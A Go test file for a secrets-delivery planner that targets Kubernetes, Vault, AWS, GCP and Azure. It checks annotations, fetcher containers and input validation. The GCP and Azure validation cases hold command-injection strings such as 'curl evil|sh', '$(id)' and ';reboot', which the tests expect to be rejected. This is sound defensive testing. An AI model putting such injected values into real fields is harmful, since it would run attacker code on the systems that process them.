package flyte

import (
	"testing"

	"github.com/google/go-cmp/cmp"
	corev1 "k8s.io/api/core/v1"
	"k8s.io/apimachinery/pkg/api/resource"

	"github.com/podsecrets/podsecrets/internal/errtext"
	"github.com/podsecrets/podsecrets/secretspec"
)

func configFor(m Manager) Config {
	cfg := DefaultConfig()
	cfg.SecretManagerType = m
	return cfg
}

var (
	prefixVar = corev1.EnvVar{Name: "FLYTE_SECRETS_ENV_PREFIX", Value: "_FSEC_"}
	dirVar    = corev1.EnvVar{Name: "FLYTE_SECRETS_DEFAULT_DIR", Value: "/etc/flyte/secrets"}
	filePfx   = corev1.EnvVar{Name: "FLYTE_SECRETS_FILE_PREFIX", Value: ""}
)

// flyteResources is Flyte's fetcher resources, written out.
func flyteResources() corev1.ResourceRequirements {
	l := corev1.ResourceList{corev1.ResourceCPU: resource.MustParse("200m"), corev1.ResourceMemory: resource.MustParse("500Mi")}
	return corev1.ResourceRequirements{Limits: l, Requests: l.DeepCopy()}
}

func fetcherExtras(vol string, env []corev1.EnvVar, fetchers ...corev1.Container) secretspec.Extras {
	return secretspec.Extras{
		Env:            env,
		Volumes:        []corev1.Volume{{Name: vol, VolumeSource: corev1.VolumeSource{EmptyDir: &corev1.EmptyDirVolumeSource{Medium: "Memory"}}}},
		Mounts:         []corev1.VolumeMount{{Name: vol, ReadOnly: true, MountPath: "/etc/flyte/secrets"}},
		InitContainers: fetchers,
	}
}

func TestPlan(t *testing.T) {
	const arn = "arn:aws:secretsmanager:us-east-1:123456789012:secret"
	awsFetcher := func(key, file string) corev1.Container {
		return corev1.Container{
			Name:         "aws-pull-secret-" + requestID("/etc/flyte/secrets"+file),
			Image:        "docker.io/amazon/aws-secrets-manager-secret-sidecar:v0.1.4",
			VolumeMounts: []corev1.VolumeMount{{Name: "aws-secret-vol", MountPath: "/tmp"}},
			Env:          []corev1.EnvVar{{Name: "SECRET_ARN", Value: arn + ":" + key}, {Name: "SECRET_FILENAME", Value: file}},
			Resources:    flyteResources(),
		}
	}
	gcpFetcher := func(group, version, dir, file string) corev1.Container {
		return corev1.Container{
			Name:  "gcp-pull-secret-" + requestID(file),
			Image: "gcr.io/google.com/cloudsdktool/cloud-sdk:alpine",
			Command: []string{"sh", "-ec", "gcloud secrets versions access " + group + "/versions/" + version + " --out-file=" + file +
				" || gcloud secrets versions access " + version + " --secret=" + group + " --out-file=" + file + "; chmod +rX " + dir + " " + file},
			VolumeMounts: []corev1.VolumeMount{{Name: "gcp-secret-vol", MountPath: "/etc/flyte/secrets"}},
			Resources:    flyteResources(),
		}
	}
	azureFetcher := func(script, file string) corev1.Container {
		return corev1.Container{
			Name:  "azure-pull-secret-" + requestID(file),
			Image: "mcr.microsoft.com/azure-cli:cbl-mariner2.0",
			Command: []string{"sh", "-ec", `az login --service-principal -u $AZURE_CLIENT_ID -t $AZURE_TENANT_ID --federated-token "$(cat $AZURE_FEDERATED_TOKEN_FILE)"; ` +
				script},
			VolumeMounts: []corev1.VolumeMount{{Name: "azure-secret-vol", MountPath: "/etc/flyte/secrets"}},
			Resources:    flyteResources(),
		}
	}
	vaultCommon := func(role string, ann map[string]string) map[string]string {
		ann["vault.hashicorp.com/agent-inject"] = "true"
		ann["vault.hashicorp.com/secret-volume-path"] = "/etc/flyte/secrets"
		ann["vault.hashicorp.com/role"] = role
		ann["vault.hashicorp.com/agent-pre-populate-only"] = "true"
		return ann
	}
	vid := func(file string) string { return requestID("/etc/flyte/secrets/" + file) }
	global := func(m map[string]string) func(string, string) (string, bool) {
		return func(g, k string) (string, bool) { v, ok := m[g+"/"+k]; return v, ok }
	}
	withGlobal := func(cfg Config, m map[string]string) Config { cfg.Global = global(m); return cfg }
	vaultCfg := configFor(ManagerVault)
	vaultCfg.Vault.Role = "task"
	vaultCfg.Vault.KVVersion = 1
	vaultCfg.Vault.Annotations = map[string]string{"vault.hashicorp.com/role": "override", "vault.hashicorp.com/agent-limits-cpu": "100m"}
	customAWS := configFor(ManagerAWS)
	customAWS.AWS.SidecarImage = "registry.example/aws-sidecar:1"

	tests := []struct {
		name       string
		cfg        Config
		in         []Secret
		wantRefs   []secretspec.Ref
		wantExtras secretspec.Extras
		wantErrs   []string
	}{
		{name: "no requests", cfg: configFor(ManagerAWS)},
		{name: "K8s is Refs", cfg: DefaultConfig(),
			in:         []Secret{{Group: "db", Key: "PASS", MountRequirement: MountEnvVar}},
			wantRefs:   []secretspec.Ref{{Secret: "db", Key: "PASS", As: secretspec.Env, EnvVar: "_FSEC_DB_PASS", Optional: true, Origin: "secrets[0]"}},
			wantExtras: secretspec.Extras{Env: []corev1.EnvVar{prefixVar}}},

		// Global secrets.
		{name: "global ENV_VAR and ANY become variables, FILE goes to the manager",
			cfg: withGlobal(DefaultConfig(), map[string]string{"db/pass": "v1", "db/cert": "v2", "db/file": "v3"}),
			in: []Secret{
				{Group: "db", Key: "pass", MountRequirement: MountEnvVar, EnvVar: "DB_PASS"},
				{Group: "db", Key: "cert"},
				{Group: "db", Key: "file", MountRequirement: MountFile},
			},
			wantRefs: []secretspec.Ref{{Secret: "db", As: secretspec.Mount, MountPath: "/etc/flyte/secrets/db",
				Items: []corev1.KeyToPath{{Key: "file", Path: "file"}}, Optional: true, Origin: "secrets[2]"}},
			wantExtras: secretspec.Extras{Env: []corev1.EnvVar{prefixVar, dirVar, filePfx,
				{Name: "_FSEC_DB_PASS", Value: "v1"}, {Name: "DB_PASS", Value: "v1"}, {Name: "_FSEC_DB_CERT", Value: "v2"}}}},
		{name: "global not found goes to the manager", cfg: withGlobal(DefaultConfig(), nil),
			in:         []Secret{{Group: "db", Key: "pass", MountRequirement: MountEnvVar}},
			wantRefs:   []secretspec.Ref{{Secret: "db", Key: "pass", As: secretspec.Env, EnvVar: "_FSEC_DB_PASS", Optional: true, Origin: "secrets[0]"}},
			wantExtras: secretspec.Extras{Env: []corev1.EnvVar{prefixVar}}},
		{name: "global serves what Vault cannot", cfg: withGlobal(configFor(ManagerVault), map[string]string{"secret/app/token": "v"}),
			in:         []Secret{{Group: "secret/app", Key: "token", MountRequirement: MountEnvVar}},
			wantExtras: secretspec.Extras{Env: []corev1.EnvVar{prefixVar, {Name: "_FSEC_SECRET/APP_TOKEN", Value: "v"}}}},
		{name: "global found twice for one variable", cfg: withGlobal(DefaultConfig(), map[string]string{"g/k": "a", "G/K": "b"}),
			in:       []Secret{{Group: "g", Key: "k", MountRequirement: MountEnvVar}, {Group: "G", Key: "K", MountRequirement: MountEnvVar}},
			wantErrs: []string{`secrets[1].key: Duplicate value: "_FSEC_G_K": its variable _FSEC_G_K is already set by secrets[0] to another value`}},

		// Vault.
		{name: "Vault kv2 default, kv1, db, FILE with env_var", cfg: configFor(ManagerVault),
			in: []Secret{
				{Group: "secret/data/app", Key: "Token", MountRequirement: MountFile, EnvVar: "TOKEN_FILE"},
				{Group: "kv/app", GroupVersion: "kv1", Key: "user"},
				{Group: "db/creds/ro", GroupVersion: "db", Key: "creds.json"},
				{Group: "secret/data/app", Key: "Token"},
			},
			wantExtras: secretspec.Extras{
				Env: []corev1.EnvVar{dirVar, filePfx, {Name: "TOKEN_FILE", Value: "/etc/flyte/secrets/secret/data/app/Token"}},
				Annotations: vaultCommon("flyte", map[string]string{
					"vault.hashicorp.com/agent-inject-secret-" + vid("secret/data/app/Token"):   "secret/data/app",
					"vault.hashicorp.com/agent-inject-file-" + vid("secret/data/app/Token"):     "secret/data/app/Token",
					"vault.hashicorp.com/agent-inject-template-" + vid("secret/data/app/Token"): `{{- with secret "secret/data/app" -}}{{ .Data.data.Token }}{{- end -}}`,
					"vault.hashicorp.com/agent-inject-secret-" + vid("kv/app/user"):             "kv/app",
					"vault.hashicorp.com/agent-inject-file-" + vid("kv/app/user"):               "kv/app/user",
					"vault.hashicorp.com/agent-inject-template-" + vid("kv/app/user"):           `{{- with secret "kv/app" -}}{{ .Data.user }}{{- end -}}`,
					"vault.hashicorp.com/agent-inject-secret-" + vid("db/creds/ro/creds.json"):  "db/creds/ro",
					"vault.hashicorp.com/agent-inject-file-" + vid("db/creds/ro/creds.json"):    "db/creds/ro/creds.json",
				}),
			}},
		{name: "Vault group_version kv2 over config's kv 1; configured annotations over Flyte's", cfg: vaultCfg,
			in: []Secret{{Group: "s/app", GroupVersion: "kv2", Key: "a"}, {Group: "s/app", Key: "b"}},
			wantExtras: secretspec.Extras{
				Env: []corev1.EnvVar{dirVar, filePfx},
				Annotations: func() map[string]string {
					m := vaultCommon("override", map[string]string{
						"vault.hashicorp.com/agent-inject-secret-" + vid("s/app/a"):   "s/app",
						"vault.hashicorp.com/agent-inject-file-" + vid("s/app/a"):     "s/app/a",
						"vault.hashicorp.com/agent-inject-template-" + vid("s/app/a"): `{{- with secret "s/app" -}}{{ .Data.data.a }}{{- end -}}`,
						"vault.hashicorp.com/agent-inject-secret-" + vid("s/app/b"):   "s/app",
						"vault.hashicorp.com/agent-inject-file-" + vid("s/app/b"):     "s/app/b",
						"vault.hashicorp.com/agent-inject-template-" + vid("s/app/b"): `{{- with secret "s/app" -}}{{ .Data.b }}{{- end -}}`,
					})
					m["vault.hashicorp.com/agent-limits-cpu"] = "100m"
					return m
				}(),
			}},
		{name: "Vault refuses ENV_VAR and bad fields", cfg: configFor(ManagerVault),
			in: []Secret{
				{Group: "s/app", Key: "k", MountRequirement: MountEnvVar},
				{Group: "s//app", Key: "a-b"},
				{Group: `s/"app"`, GroupVersion: "kv3", Key: "}} {{ env \"X\" "},
				{Group: "../x", GroupVersion: "db", Key: ".."},
				{Key: "k"},
			},
			wantErrs: []string{
				"secrets[0].mount_requirement: Invalid value: Vault delivers secrets as files only (Flyte refuses ENV_VAR too): use FILE or ANY, or serve the request from the global secrets",
				"secrets[1].group: Invalid value: a Vault path: elements of letters, digits and _ . @ + = - separated by single '/', none of them . or ..",
				"secrets[1].key: Invalid value: a key-value engine's key that the agent's template reads as a field: a letter or _, then letters, digits and _",
				"secrets[2].group: Invalid value: a Vault path: elements of letters, digits and _ . @ + = - separated by single '/', none of them . or ..",
				`secrets[2].group_version: Unsupported value: supported values: "", "kv1", "kv2", "db"`,
				"secrets[2].key: Invalid value: a file name: letters, digits and _ . -, not . or ..",
				"secrets[3].group: Invalid value: a Vault path: elements of letters, digits and _ . @ + = - separated by single '/', none of them . or ..",
				"secrets[3].key: Invalid value: a file name: letters, digits and _ . -, not . or ..",
				"secrets[4].group: Required value: the Vault path of the secret, e.g. secret/data/flyte",
			}},
		{name: "Vault: one file, two templates", cfg: configFor(ManagerVault),
			in:       []Secret{{Group: "s", GroupVersion: "kv1", Key: "k"}, {Group: "s", GroupVersion: "kv2", Key: "k"}},
			wantErrs: []string{"secrets[1]: Duplicate value: the file /etc/flyte/secrets/s/k is already written by secrets[0] from another secret"}},
		{name: "Vault: a file is another's directory", cfg: configFor(ManagerVault),
			in:       []Secret{{Group: "s", Key: "k"}, {Group: "s/k", Key: "j"}},
			wantErrs: []string{"secrets[1]: Invalid value: the file /etc/flyte/secrets/s/k/j and the file /etc/flyte/secrets/s/k of secrets[0] cannot both exist (one would be the other's directory)"}},

		// AWS.
		{name: "AWS: one fetcher per distinct request, upper and lower case keys, env_var", cfg: configFor(ManagerAWS),
			in: []Secret{
				{Group: arn, Key: "DB_Pass", MountRequirement: MountFile, EnvVar: "DB_PASS_FILE"},
				{Group: arn, Key: "token"},
				{Group: arn, Key: "DB_Pass"},
			},
			wantExtras: fetcherExtras("aws-secret-vol",
				[]corev1.EnvVar{dirVar, filePfx, {Name: "DB_PASS_FILE", Value: "/etc/flyte/secrets/" + arn + "/db_pass"}},
				awsFetcher("DB_Pass", "/"+arn+"/db_pass"), awsFetcher("token", "/"+arn+"/token"))},
		{name: "AWS: configured image", cfg: customAWS, in: []Secret{{Group: arn + ":", Key: ":k"}},
			wantExtras: fetcherExtras("aws-secret-vol", []corev1.EnvVar{dirVar, filePfx}, func() corev1.Container {
				c := awsFetcher("k", "/"+arn+":/:k")
				c.Image = "registry.example/aws-sidecar:1"
				return c
			}())},
		{name: "AWS: ARN, name, ENV_VAR, lower-case clash", cfg: configFor(ManagerAWS),
			in: []Secret{
				{Group: "my-secret", Key: "k"},
				{Group: arn, Key: "a/../b"},
				{Group: arn, Key: "k", MountRequirement: MountEnvVar},
				{Group: arn, Key: "K", MountRequirement: 7},
				{Group: arn, Key: "Pass"},
				{Group: arn, Key: "pass"},
				{Group: arn},
			},
			wantErrs: []string{
				"secrets[0].group: Invalid value: the ARN of AWS Secrets Manager up to :secret (arn:<partition>:secretsmanager:<region>:<12-digit account>:secret); the key names the secret",
				"secrets[1].key: Invalid value: the secret's name is also its file's path: no empty, . or .. elements, no trailing /",
				"secrets[2].mount_requirement: Invalid value: AWS delivers secrets as files only (Flyte refuses ENV_VAR too): use FILE or ANY, or serve the request from the global secrets",
				`secrets[3].mount_requirement: Unsupported value: supported values: "ANY", "FILE"`,
				"secrets[5]: Duplicate value: the file /etc/flyte/secrets/" + arn + "/pass is already written by secrets[4] from another secret",
				"secrets[6].key: Required value: the secret's name in AWS Secrets Manager",
			}},

		// GCP.
		{name: "GCP: group_version names the file, lower-cased", cfg: configFor(ManagerGCP),
			in: []Secret{{Group: "DB", GroupVersion: "Latest", EnvVar: "DB_FILE"}, {Group: "DB", GroupVersion: "2", MountRequirement: MountFile}},
			wantExtras: fetcherExtras("gcp-secret-vol",
				[]corev1.EnvVar{dirVar, filePfx, {Name: "DB_FILE", Value: "/etc/flyte/secrets/db/latest"}},
				gcpFetcher("DB", "Latest", "/etc/flyte/secrets/db", "/etc/flyte/secrets/db/latest"),
				gcpFetcher("DB", "2", "/etc/flyte/secrets/db", "/etc/flyte/secrets/db/2"))},
		{name: "GCP: nothing reaches the shell", cfg: configFor(ManagerGCP),
			in: []Secret{
				{Group: "x; curl evil|sh", GroupVersion: "1"},
				{Group: "x", GroupVersion: "$(id)"},
				{Group: "x"},
			},
			wantErrs: []string{
				"secrets[0].group: Invalid value: a GCP secret id (letters, digits, _ and -) or projects/<project>/secrets/<id>",
				"secrets[1].group_version: Invalid value: a GCP secret version: a number, latest or an alias (letters, digits, _ and -)",
				"secrets[2].group_version: Required value: the GCP secret's version, a number or latest",
			}},

		// Azure.
		{name: "Azure: latest and a version", cfg: configFor(ManagerAzure),
			in: []Secret{
				{Group: "https://v.vault.azure.net/secrets/Token/", EnvVar: "TOKEN_FILE"},
				{Group: "https://v.vault.azure.net/secrets/db", GroupVersion: "V1"},
			},
			wantExtras: fetcherExtras("azure-secret-vol",
				[]corev1.EnvVar{dirVar, filePfx, {Name: "TOKEN_FILE", Value: "/etc/flyte/secrets/token"}},
				azureFetcher(`az keyvault secret show --id "https://v.vault.azure.net/secrets/Token/" --query "value" -o tsv > /etc/flyte/secrets/token`, "/etc/flyte/secrets/token"),
				azureFetcher(`mkdir -p /etc/flyte/secrets/db; az keyvault secret show --id "https://v.vault.azure.net/secrets/db/V1" --query "value" -o tsv > /etc/flyte/secrets/db/v1`, "/etc/flyte/secrets/db/v1"))},
		{name: "Azure: nothing reaches the shell; file and directory clash", cfg: configFor(ManagerAzure),
			in: []Secret{
				{Group: `https://v.vault.azure.net/secrets/x"; curl evil|sh; "`},
				{Group: "http://v.vault.azure.net/secrets/x"},
				{Group: "https://v.vault.azure.net/secrets/x", GroupVersion: "1;reboot"},
				{Group: "https://v.vault.azure.net/secrets/y"},
				{Group: "https://v.vault.azure.net/secrets/y", GroupVersion: "2"},
			},
			wantErrs: []string{
				"secrets[0].group: Invalid value: a Key Vault secret's URI, https://<vault host>/secrets/<name>, the name of letters, digits and -",
				"secrets[1].group: Invalid value: a Key Vault secret's URI, https://<vault host>/secrets/<name>, the name of letters, digits and -",
				"secrets[2].group_version: Invalid value: a Key Vault secret version: letters, digits and -; empty for the latest",
				"secrets[4]: Invalid value: the file /etc/flyte/secrets/y/2 and the file /etc/flyte/secrets/y of secrets[3] cannot both exist (one would be the other's directory)",
			}},

		// Configuration.
		{name: "invalid config", cfg: Config{SecretManagerType: "aws"}, in: []Secret{{Group: "g", Key: "k"}},
			wantErrs: []string{`config.secretManagerType: Unsupported value: supported values: "K8s", "Vault", "AWS", "GCP", "Azure"`}},
		{name: "config of the manager in use", cfg: Config{SecretManagerType: ManagerVault, Vault: VaultConfig{KVVersion: 3, Annotations: map[string]string{"a b": "x"}}},
			wantErrs: []string{
				"config.vaultSecretManager.role: Required value: the Vault role the agent logs in with",
				`config.vaultSecretManager.kvVersion: Unsupported value: 3: supported values: "1", "2"`,
				`config.vaultSecretManager.annotations[a b]: Invalid value: "a b": an annotation key: the name must not contain " " at byte 1; a qualified name is an optional DNS-1123 subdomain and '/', then at most 63 characters of letters, digits, '-', '_' and '.', starting and ending with a letter or digit`,
			}},
		{name: "fetcher image required", cfg: Config{SecretManagerType: ManagerGCP},
			wantErrs: []string{"config.gcpSecretManager.sidecarImage: Required value: the fetcher's image"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			in := append([]Secret(nil), tt.in...)
			refs, x, err := Plan(tt.in, tt.cfg)
			if diff := cmp.Diff(tt.wantRefs, refs); diff != "" {
				t.Errorf("refs (-want +got):\n%s", diff)
			}
			if diff := cmp.Diff(tt.wantExtras, x); diff != "" {
				t.Errorf("extras (-want +got):\n%s", diff)
			}
			if diff := cmp.Diff(tt.wantErrs, errtext.Messages(err)); diff != "" {
				t.Errorf("errors (-want +got):\n%s", diff)
			}
			if diff := cmp.Diff(in, tt.in); diff != "" {
				t.Errorf("input changed (-want +got):\n%s", diff)
			}
		})
	}
}

// TestPlanRefsIsK8s: Refs and Plan with the K8s manager agree on every request of the K8s tests.
func TestPlanRefsIsK8s(t *testing.T) {
	in := goldenRequests(ManagerK8s)
	refs, rx, err := Refs(in)
	if err != nil {
		t.Fatal(err)
	}
	prefs, x, err := Plan(in, DefaultConfig())
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(refs, prefs); diff != "" {
		t.Errorf("refs (-Refs +Plan):\n%s", diff)
	}
	if diff := cmp.Diff(rx, x); diff != "" {
		t.Errorf("extras (-Refs +Plan):\n%s", diff)
	}
}

// TestPlanFileSkipsGlobal: a FILE request is never looked up globally (Flyte's webhook crashes
// there), and the lookup is called with the request's own group and key.
func TestPlanFileSkipsGlobal(t *testing.T) {
	var asked []string
	cfg := DefaultConfig()
	cfg.Global = func(g, k string) (string, bool) { asked = append(asked, g+"/"+k); return "", false }
	_, _, err := Plan([]Secret{{Group: "a", Key: "F", MountRequirement: MountFile}, {Group: "b", Key: "E", MountRequirement: MountEnvVar}, {Group: "c", Key: "A"}}, cfg)
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff([]string{"b/E", "c/A"}, asked); diff != "" {
		t.Errorf("lookups (-want +got):\n%s", diff)
	}
}

// TestPlanDeterministic: the Vault ids and fetcher names depend on the request, not on its
// position or on the call.
func TestPlanDeterministic(t *testing.T) {
	for _, m := range []Manager{ManagerVault, ManagerAWS, ManagerGCP, ManagerAzure} {
		in := goldenRequests(m)
		_, a, err := Plan(in, configFor(m))
		if err != nil {
			t.Fatal(err)
		}
		rev := append([]Secret(nil), in...)
		for i, j := 0, len(rev)-1; i < j; i, j = i+1, j-1 {
			rev[i], rev[j] = rev[j], rev[i]
		}
		_, b, err := Plan(rev, configFor(m))
		if err != nil {
			t.Fatal(err)
		}
		if diff := cmp.Diff(a.Annotations, b.Annotations); diff != "" {
			t.Errorf("%s: annotations depend on the order (-forward +reversed):\n%s", m, diff)
		}
		byName := func(x secretspec.Extras) map[string]corev1.Container {
			out := map[string]corev1.Container{}
			for _, c := range x.InitContainers {
				out[c.Name] = c
			}
			return out
		}
		if diff := cmp.Diff(byName(a), byName(b)); diff != "" {
			t.Errorf("%s: fetchers depend on the order (-forward +reversed):\n%s", m, diff)
		}
	}
}
